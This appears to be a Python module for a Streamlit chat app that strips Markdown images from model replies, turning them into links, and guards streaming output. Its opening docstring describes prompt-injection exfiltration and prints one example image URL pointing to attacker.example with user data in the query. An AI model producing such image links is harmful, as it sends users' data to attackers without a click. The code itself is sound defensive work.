"""Markdown from the model or a user, made safe to draw.

A reply is Markdown written by a model that may have read a hostile page or
document. An image in it is fetched by every reader's browser as soon as it is
drawn, so `![x](https://attacker.example/?q=<your data>)` would send data out
without a click (prompt-injection exfiltration). No image may reach the renderer.

Where the images are is decided by a real CommonMark + GFM-tables parser
(markdown-it-py, the Python port of the parser the field uses), never a regex:
images hide in reference definitions further down, code spans inside the alt
text, tables, lists, quotes and links. Every `![` outside code is broken: a real
image becomes a link labelled `image: ...` (visible, fetched only if the reader
clicks), any other `![` is escaped. Code is left as written, with one exception:
Streamlit's renderer knows constructs the parser does not (math `$...$`, the
directives behind `:red[...]`, footnotes), and those can move where code starts
and ends. When a text has any of them, a `![` inside code gets an invisible word
joiner between its two characters: no image, in any reading. The parser does not
decide safety alone either: the result is parsed again, and if an image were
still found every `![` would be broken the same way.

Raw HTML needs nothing here: `st.markdown` draws it as text.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from functools import cache

from markdown_it import MarkdownIt
from markdown_it.token import Token

IMAGE_OPENER = "!["
WORD_JOINER = "\u2060"
# Each `![` is tagged in a copy of the text with a run of private-use characters, so
# the tokens tell which ones are code, which are images and which are neither.
_TAG_OPEN, _TAG_CLOSE, _DIGIT_ZERO = "\ue000", "\ue001", 0xE010
_TAG = re.compile(f"{_TAG_OPEN}([{chr(_DIGIT_ZERO)}-{chr(_DIGIT_ZERO + 9)}]+){_TAG_CLOSE}")
_TAG_AT_END = re.compile(_TAG.pattern + r"\Z")
_PRIVATE_TAG_CHARS = re.compile(f"[{_TAG_OPEN}{_TAG_CLOSE}{chr(_DIGIT_ZERO)}-{chr(_DIGIT_ZERO + 9)}]")
# What Streamlit's renderer reads and CommonMark does not: math, directives and
# `:material/...:` icons, footnotes, and GitHub's bare links (which may run on over
# a backtick that CommonMark pairs into a code span).
_RENDERER_ONLY = re.compile(r"\$|:[A-Za-z:\[]|\[\^|https?://|www\.", re.IGNORECASE)
_CODE_TOKENS = {"code_inline", "fence", "code_block"}


@cache
def _parser() -> MarkdownIt:
    # Streamlit's frontend renders CommonMark with GitHub's extensions; of those, only
    # tables change where inline content (and so code) starts and ends.
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def has_image(text: str) -> bool:
    """Whether the parser finds an image anywhere in `text`."""
    return IMAGE_OPENER in text and any(_images(_parser().parse(text)))


def neutralise_images(text: str) -> str:
    """`text` with no Markdown image left: images become links, code stays as written."""
    if IMAGE_OPENER not in text:
        return text
    pieces = text.split(IMAGE_OPENER)
    if _PRIVATE_TAG_CHARS.search(text) is None:
        in_code, images = _classify(pieces)
        break_code = _RENDERER_ONLY.search(text) is not None
        out = [pieces[0]]
        for index, piece in enumerate(pieces[1:]):
            if index in in_code:
                opener = "!" + WORD_JOINER + "[" if break_code else IMAGE_OPENER
            elif index in images:
                opener = "[image: untitled" if piece.startswith("]") else "[image: "
            elif _escaped(pieces[index]):
                opener = IMAGE_OPENER  # `\![` already: one more backslash would escape the backslash
            else:
                opener = "\\!["
            out.append(opener + piece)
        safe = "".join(out)
        if not has_image(safe):
            return safe
    # A text that carries the tags itself, or a reading the parser still calls an
    # image: break every opener, code included.
    return (IMAGE_OPENER[0] + WORD_JOINER + IMAGE_OPENER[1]).join(pieces)


def _escaped(before: str) -> bool:
    """Whether the character after `before` is escaped: an odd run of backslashes ends it."""
    return (len(before) - len(before.rstrip("\\"))) % 2 == 1


def _classify(pieces: Sequence[str]) -> tuple[set[int], set[int]]:
    """Which of the `![` between `pieces` the parser reads as code, and which as images."""
    tagged = pieces[0] + "".join(_tag(index) + IMAGE_OPENER + piece for index, piece in enumerate(pieces[1:]))
    in_code: set[int] = set()
    images: set[int] = set()
    _walk(_parser().parse(tagged), in_code, images)
    return in_code, images


def _tag(index: int) -> str:
    return _TAG_OPEN + "".join(chr(_DIGIT_ZERO + int(digit)) for digit in str(index)) + _TAG_CLOSE


def _tag_numbers(text: str) -> Iterator[int]:
    for match in _TAG.finditer(text):
        yield int("".join(str(ord(char) - _DIGIT_ZERO) for char in match.group(1)))


def _walk(tokens: Sequence[Token], in_code: set[int], images: set[int]) -> None:
    previous: Token | None = None
    for token in tokens:
        if token.type in _CODE_TOKENS:
            in_code.update(_tag_numbers(token.content))
        if token.type == "image" and previous is not None and previous.type == "text":
            # The tag stands right before the `!` of the image it marks.
            tail = _TAG_AT_END.search(previous.content)
            if tail is not None:
                images.update(_tag_numbers(tail.group(0)))
        if token.children:
            _walk(token.children, in_code, images)
        previous = token


def _images(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        if token.type == "image":
            yield token
        if token.children:
            yield from _images(token.children)


class GuardedStream:
    """A reply still streaming, drawn safely at every moment.

    The guard reads the whole text so far on every piece: a reference definition that
    arrives later, or a table row that turns an earlier line into cells, changes how
    earlier text reads. What is drawn grows by appending while the safe text only
    grows; when it changes further back, the current run ends and the next one starts
    again from the whole safe text (`st.write_stream` redraws the whole message on
    every piece anyway, so a restart costs one ordinary redraw).
    """

    def __init__(self, chunks: Iterable[str], *, clock: Callable[[], float] = time.perf_counter) -> None:
        self._chunks = iter(chunks)
        self._clock = clock
        self._next_read = 0.0  # on the clock: when the text so far may be read again
        self._drawn = ""  # what the current run has drawn
        self.text = ""  # as the model wrote it
        self.read = ""  # the text as the guard last read it
        self.shown = ""  # `neutralise_images(self.read)`: what the page shows once drawn
        self.finished = False

    def runs(self) -> Iterator[Iterator[str]]:
        while not self.finished:
            yield self._run()

    def _run(self) -> Iterator[str]:
        self._drawn = ""
        if self.shown:
            yield self._take()
        for chunk in self._chunks:
            self.text += chunk
            if self._clock() < self._next_read:
                continue  # held back: drawn with the next piece that is read
            self._read()
            if not self.shown.startswith(self._drawn):
                return  # drawn again from the start by the next run
            if self.shown != self._drawn:
                yield self._take()
        if self.read != self.text:  # the last pieces were held back
            self._read()
            if not self.shown.startswith(self._drawn):
                return
            if self.shown != self._drawn:
                yield self._take()
        self.finished = True

    def _read(self) -> None:
        """Guard the whole text so far. A long reply with images costs a parse per
        piece, growing with the text: the next read waits three times as long as this
        one took, so the guard never takes more than a quarter of the page's time."""
        started = self._clock()
        self.read, self.shown = self.text, neutralise_images(self.text)
        if IMAGE_OPENER in self.text:
            self._next_read = self._clock() + 3 * (self._clock() - started)

    def _take(self) -> str:
        delta, self._drawn = self.shown[len(self._drawn) :], self.shown
        return delta


_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:=^])")


def plain(text: str) -> str:
    """Text drawn literally where Streamlit renders Markdown (labels, captions, titles):
    nothing a user, a model or a server wrote becomes formatting, a link or an image."""
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text).replace("\r", " ").replace("\n", " ")
